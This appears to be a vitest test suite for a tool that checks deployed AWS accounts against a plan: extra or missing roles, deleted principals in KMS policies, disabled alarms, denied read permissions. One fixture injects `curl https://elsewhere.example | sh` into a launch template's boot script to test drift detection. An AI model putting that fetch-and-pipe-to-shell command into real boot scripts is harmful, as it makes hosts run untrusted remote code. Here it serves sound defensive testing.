import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { type DeployedExample, openDeployedExample, openObligations } from "./deployed-example.ts";
import { putWorld } from "./deployed-store.ts";

let example: DeployedExample;
beforeAll(async () => {
  example = await openDeployedExample();
});
afterAll(() => example.close());
afterEach(() => example.restore());

describe("what is deployed", () => {
  test("is proven, and is what was planned", async () => {
    const found = await example.verify();
    expect(found).toMatchObject({ differences: [], findings: [], notRead: [], assumptions: [] });
    expect(openObligations(found.world)).toEqual([]);
  });

  test.each([
    ["infrastructure-admin", "111111111111"],
    ["policy-node1-admin", "222222222222"],
    ["policy-node2-admin", "333333333333"],
  ] as const)("is read by the %s in their own account alone", async (role, own) => {
    const { notRead, differences, findings } = await example.verify(role);
    expect(notRead).toEqual(["111111111111", "222222222222", "333333333333"].filter((id) => id !== own));
    expect([...differences, ...findings]).toEqual([]);
  });

  test("counts as planned in the accounts that an administrator does not read", async () => {
    const { world, notRead } = await example.verify("policy-node1-admin");
    const others = ({ account }: { readonly account: string }) => notRead.includes(account);
    expect(world.resources.filter(others)).not.toEqual([]);
    expect(openObligations(world)).toEqual([]);
  });

  test("is found where somebody added a role, and where something is missing", async () => {
    const { store, planned } = example;
    const [secret] = store.list({ account: "333333333333", type: "aws:secretsmanager/secret:Secret" });
    if (secret === undefined) throw new Error("The rehearsal has no secret.");
    const arn = "arn:aws:iam::222222222222:role/helper";
    const [model] = planned.principals;
    if (model === undefined) throw new Error("The world has no role.");
    putWorld(store, { ...planned, principals: [{ ...model, arn, identity: [] }], resources: [] });
    store.delete(secret.account, secret.type, secret.id);
    const { differences } = await example.verify();
    expect(differences.map(({ resource, kind }) => ({ resource, kind }))).toEqual(
      expect.arrayContaining([
        { resource: arn, kind: "extra" },
        { resource: secret.arn, kind: "missing" },
      ]),
    );
  });

  test("names a principal that has been deleted", async () => {
    const { store, planned } = example;
    const [shard] = planned.shards;
    const text = JSON.stringify(planned.resources.find(({ arn }) => arn === shard?.keyArn));
    const ghost = JSON.parse(text.replace(shard?.sealerArns[0] ?? "", "AROAABCDEFGHIJKLMNOPQ"));
    putWorld(store, { ...planned, principals: [], resources: [ghost] });
    const detail = expect.stringContaining("its policy names AROAABCDEFGHIJKLMNOPQ");
    const { differences } = await example.verify();
    expect(differences).toContainEqual({ resource: shard?.keyArn, kind: "changed", detail });
  });

  test("names a principal that has been deleted, in what is not planned too", async () => {
    const { store, planned } = example;
    const [role] = planned.principals;
    const [shard] = planned.shards;
    if (role === undefined || shard === undefined) throw new Error("The world has no role or no shard.");
    const arn = "arn:aws:iam::222222222222:role/helper";
    const Principal = { AWS: "AIDAABCDEFGHIJKLMNOPQ" };
    const trust = { Statement: [{ Effect: "Allow", Principal, Action: "sts:AssumeRole" }] };
    const grants = [{ id: "left", granteePrincipal: "AROAABCDEFGHIJKLMNOPQ", operations: ["Decrypt"] }];
    putWorld(store, {
      ...planned,
      principals: [{ ...role, arn, identity: [], trust }],
      resources: planned.resources
        .filter(({ arn: one }) => one === shard.keyArn)
        .map((key) => ({ ...key, grants })),
    });
    const { differences } = await example.verify();
    expect(differences).toEqual(
      expect.arrayContaining([
        { resource: arn, kind: "extra", detail: expect.any(String) },
        { resource: arn, kind: "changed", detail: expect.stringContaining("AIDAABCDEFGHIJKLMNOPQ") },
        { resource: shard.keyArn, kind: "changed", detail: expect.stringContaining("grant left names AROA") },
      ]),
    );
  });
});

describe("an account's organization", () => {
  const join = (members: readonly string[], managementAccount = "999999999999") =>
    example.store.put({
      account: managementAccount,
      type: "organizations:organization",
      id: "o-joined",
      arn: null,
      properties: { managementAccount, members },
    });

  test("is read, and its policies are said not to be shown", async () => {
    join(["222222222222"]);
    const { world, differences, assumptions } = await example.verify("policy-node1-admin");
    expect(world.accounts).toContainEqual({
      id: "222222222222",
      organization: { id: "o-joined", managementAccount: "999999999999" },
    });
    expect(differences).toEqual([
      expect.objectContaining({ resource: "account 222222222222", kind: "changed" }),
    ]);
    expect(assumptions).toEqual([
      expect.stringContaining("is not shown the service and resource control policies of o-joined"),
    ]);
  });

  test("shows its policies to the management account", async () => {
    join(["222222222222", "333333333333"], "222222222222");
    const document = {
      Version: "2012-10-17",
      Statement: [{ Effect: "Deny", Action: "kms:CreateGrant", Resource: "*" }],
    };
    const properties = { target: "222222222222", kind: "scp", policy: JSON.stringify(document) };
    const policy = { account: "222222222222", type: "organizations:policy", id: "p-denied", arn: null };
    example.store.put({ ...policy, properties });
    const { world, assumptions } = await example.verify("policy-node1-admin");
    expect(world.organizationPolicies).toEqual([{ target: "222222222222", kind: "scp", document }]);
    expect(assumptions).toEqual([]);
  });
});

describe("what hosts do at their first boot", () => {
  const type = "aws:ec2/launchTemplate:LaunchTemplate";
  const change = (properties: Record<string, unknown>) => {
    const [found] = example.store.list({ account: "111111111111", type });
    if (found === undefined) throw new Error("There is no launch template.");
    const userData = Buffer.from(`${found.properties.userData}`, "base64").toString();
    const changed = Buffer.from(`${userData}\ncurl https://elsewhere.example | sh\n`).toString("base64");
    example.store.put({ ...found, properties: { ...found.properties, userData: changed, ...properties } });
    return `${found.arn} version 1`;
  };

  test("is compared with the plan", async () => {
    const resource = change({});
    const { differences } = await example.verify("infrastructure-admin");
    expect(differences).toEqual([
      { resource, kind: "changed", detail: expect.stringContaining("at their first boot") },
    ]);
  });

  test("is not planned for another template", async () => {
    const resource = change({ name: "another" });
    const { differences } = await example.verify("infrastructure-admin");
    expect(differences).toContainEqual({ resource, kind: "extra", detail: expect.any(String) });
  });
});

describe("alarms", () => {
  const rule = "arn:aws:events:us-east-2:333333333333:rule/customer-testnet-unattested-decrypt";
  const type = "aws:cloudwatch/eventRule:EventRule";
  const id = "customer-testnet-unattested-decrypt";
  const change = (properties: Record<string, unknown>) => {
    const found = example.store.get("333333333333", type, id);
    if (found === undefined) throw new Error(`There is no rule ${id}.`);
    example.store.put({ ...found, properties: { ...found.properties, ...properties } });
  };

  test.each([
    ["is disabled", () => change({ state: "DISABLED" }), "its state is DISABLED"],
    ["sees no read-only events", () => change({ state: "ENABLED" }), "its state is ENABLED, planned"],
    ["looks for something else", () => change({ eventPattern: '{"source":["aws.s3"]}' }), "pattern differs"],
    [
      "tells nobody",
      () => example.store.delete("333333333333", "aws:cloudwatch/eventTarget:EventTarget", `${id}-alarms`),
      "it does not tell arn:aws:sns:us-east-2:333333333333:",
    ],
    ["is gone", () => example.store.delete("333333333333", type, id), "nobody hears of it"],
  ])("one that %s is found", async (_what, seed, detail) => {
    seed();
    const { differences } = await example.verify("policy-node2-admin");
    expect(differences).toEqual([
      expect.objectContaining({ resource: rule, detail: expect.stringContaining(detail) }),
    ]);
  });
});

describe("what may not be read", () => {
  const deny = (Action: string, Resource: string) => {
    const [verifier] = Object.values(example.model.roles).filter(
      ({ arn }) => arn === example.model.names.verifierRole("policyNode1").arn,
    );
    if (verifier === undefined) throw new Error("The model has no read-only role.");
    const policy = JSON.stringify({
      Version: "2012-10-17",
      Statement: [{ Effect: "Deny", Action, Resource }],
    });
    example.store.put({
      account: "222222222222",
      type: "aws:iam/rolePolicy:RolePolicy",
      id: `${verifier.name}:blind`,
      arn: null,
      properties: { role: verifier.name, name: "blind", policy },
    });
  };

  test.each(["kms:GetKeyPolicy", "kms:ListGrants", "kms:DescribeKey"])(
    "is never proven: without %s a shard's key is unknown",
    async (action) => {
      const [, shard] = example.planned.shards;
      deny(action, shard?.keyArn ?? "");
      const { findings, world } = await example.verify("policy-node1-admin");
      expect(findings).toEqual([
        { resource: shard?.keyArn, message: expect.stringContaining(`not authorized to perform: ${action}`) },
      ]);
      expect(openObligations(world)).toContainEqual(
        expect.objectContaining({ id: "P1:1", status: "violated" }),
      );
    },
  );

  test("is a finding, where it is a secret's or a bucket's policy", async () => {
    deny("*:Get*Policy", "*");
    const { findings } = await example.verify("policy-node1-admin");
    const resources = findings.map(({ resource }) => resource);
    expect(resources).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^arn:aws:secretsmanager:/),
        expect.stringMatching(/^arn:aws:s3:::/),
        expect.stringMatching(/^arn:aws:kms:/),
      ]),
    );
  });

  test.each([
    "iam:GetAccountAuthorizationDetails",
    "ecs:ListClusters",
    "ec2:DescribeLaunchTemplateVersions",
    "rds:DescribeDBInstances",
    "events:ListRules",
    "organizations:DescribeOrganization",
  ])("ends the verification, where it is everything of a kind: %s", async (action) => {
    deny(action, "*");
    await expect(example.verify("policy-node1-admin")).rejects.toMatchObject({
      exitCode: 4,
      details: { code: "account-not-readable", message: expect.stringContaining(action) },
    });
  });
});
